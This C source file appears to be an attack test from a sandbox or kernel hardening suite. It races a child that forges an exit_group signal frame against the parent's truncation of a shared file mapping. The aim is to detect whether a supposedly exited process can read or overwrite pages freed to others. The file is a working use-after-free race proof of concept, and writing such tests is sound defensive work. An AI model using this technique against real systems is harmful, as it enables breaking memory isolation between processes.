// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * A process that only says that it exits: its thread goes on with what is still mapped,
 * while the kernel takes the memory from it. Meanwhile a page of a file that both have
 * mapped is truncated by the parent and given to somebody else. TRIES, two CPUs.
 *
 * There are many mappings to undo, so that this takes milliseconds. When it begins
 * /proc says: there is no program any more.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <linux/audit.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FILE_PAGES 64
#define BALLAST 8192			/* pages that there are to unmap, one by one */
#define STRIDE 2731			/* odd: each page comes once */
#define OTHERS (2UL << 20)		/* memory that is filled from what becomes free */
#define MINE 0x1111UL
#define THEIRS 0x5ec2e75ec2e75ec2UL
#define BAD 0xbadUL
#define SI_ADDR 16
#define SI_ARCH 28
#define LATEST_US 1000			/* the truncation, after the process has no mm any more */

static volatile unsigned long *file, *others;
static int ballast;

enum { SAID, FOUND, ROUNDS, LATE };		/* of shared->word */

static unsigned long us(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000UL + t.tv_nsec / 1000;
}

/* A file whose neighbouring pages are not neighbours in memory. */
static void make_ballast(void)
{
	int i;

	ballast = memfd_create("ballast", 0);
	for (i = 0; i < BALLAST; i++)
		if (pwrite(ballast, "x", 1, i * STRIDE % BALLAST * PAGE) != 1)
			cannot("no memory");
}

/* Says that it called exit_group(), and looks at the file as long as it is there. */
static void ghost(void)
{
	struct r3_slot *slot = (void *)stay_on(1);
	/* Below the file, so that this goes last. */
	volatile char *below = mmap((void *)0x10000000, BALLAST * PAGE, PROT_READ, MAP_SHARED | MAP_FIXED, ballast, 0);
	struct frame *frame;
	unsigned long i;

	if (below == MAP_FAILED)
		_exit(1);
	for (i = 0; i < BALLAST; i++)
		(void)below[i * PAGE];
	for (i = 0; i < 2 * FILE_PAGES; i++)
		file[i % FILE_PAGES * 512] = MINE;
	shared->word[ROUNDS]++;
	readable(NOWHERE);		/* now the slot has a frame */
	if (!slot->uc || !slot->info)
		_exit(1);
	/* From here on nothing may fault: the host would write its own frame over ours. */
	frame = (void *)slot->uc;
	frame->fpstate = (unsigned long)slot + R3_SLOT_FP;
	frame->g[REG_RAX] = SYS_exit_group;
	frame->g[REG_RDI] = 0;
	*(int *)(slot->info + SI_ARCH) = AUDIT_ARCH_X86_64;
	*(unsigned long *)(slot->info + SI_ADDR) = frame->g[REG_RIP];
	slot->sig = SIGSYS;
	slot->resume = 0;
	shared->word[SAID] = 1;
	__atomic_exchange_n(&slot->event, 1, __ATOMIC_SEQ_CST);
	for (;;) {
		shared->word[ROUNDS]++;
		for (i = 0; i < FILE_PAGES; i++) {
			if (file[i * 512] == THEIRS) {
				shared->word[FOUND]++;
				file[i * 512] = BAD;
			}
		}
	}
}

static unsigned long changed(void)
{
	unsigned long i, n = 0;

	for (i = 0; i < OTHERS / 8; i += 512)
		n += others[i] != THEIRS;
	return n;
}

static void one(void)
{
	int fd = memfd_create("file", 0), pid, status;
	unsigned long start, i, n;
	char exe[32], to[256];

	if (fd < 0 || ftruncate(fd, FILE_PAGES * PAGE))
		cannot("no file");
	file = mmap(NULL, FILE_PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (file == MAP_FAILED || madvise((void *)others, OTHERS, MADV_DONTNEED))
		cannot("no memory");
	shared->word[SAID] = 0;
	pid = fork();
	if (!pid)
		ghost();
	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
	start = us();
	while (!shared->word[SAID] && us() - start < 3000000)
		;
	while (readlink(exe, to, sizeof(to)) > 0 && us() - start < 3000000)
		;
	shared->word[LATE] += us() - start > 2000000;
	i = random() % 2 ? random() % LATEST_US : 0;
	for (start = us(); us() - start < i; )
		;
	if (pid < 0 || ftruncate(fd, 0))
		cannot("ftruncate");
	for (i = 0; i < OTHERS / 8; i += 512)
		others[i] = THEIRS;
	kill(pid, SIGKILL);
	waitpid(pid, &status, 0);
	if (!shared->word[SAID])
		cannot("the process did not come to its event");
	n = changed();
	if (shared->word[FOUND] || n)
		through("a process that said it exits read %lu pages of another, and wrote %lu", shared->word[FOUND], n);
	munmap((void *)file, FILE_PAGES * PAGE);
	close(fd);
}

int main(int argc, char **argv)
{
	int i, tries = argc > 1 ? atoi(argv[1]) : 200;

	attack_init();
	if (cpus() < 2) {
		printf("one CPU: nobody else runs meanwhile\n");
		return 0;
	}
	stay_on(0);
	make_ballast();
	others = mmap(NULL, OTHERS, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (others == MAP_FAILED)
		cannot("no memory");
	madvise((void *)others, OTHERS, MADV_NOHUGEPAGE);
	srandom(time(NULL));
	for (i = 0; i < tries && !shared->through; i++)
		one();
	printf("%d tries, %lu late, %lu rounds through the file\n", i, shared->word[LATE], shared->word[ROUNDS]);
	if (!shared->word[ROUNDS] || (int)shared->word[LATE] == i)
		cannot("no process exited, or none went on");
	return attack_end();
}
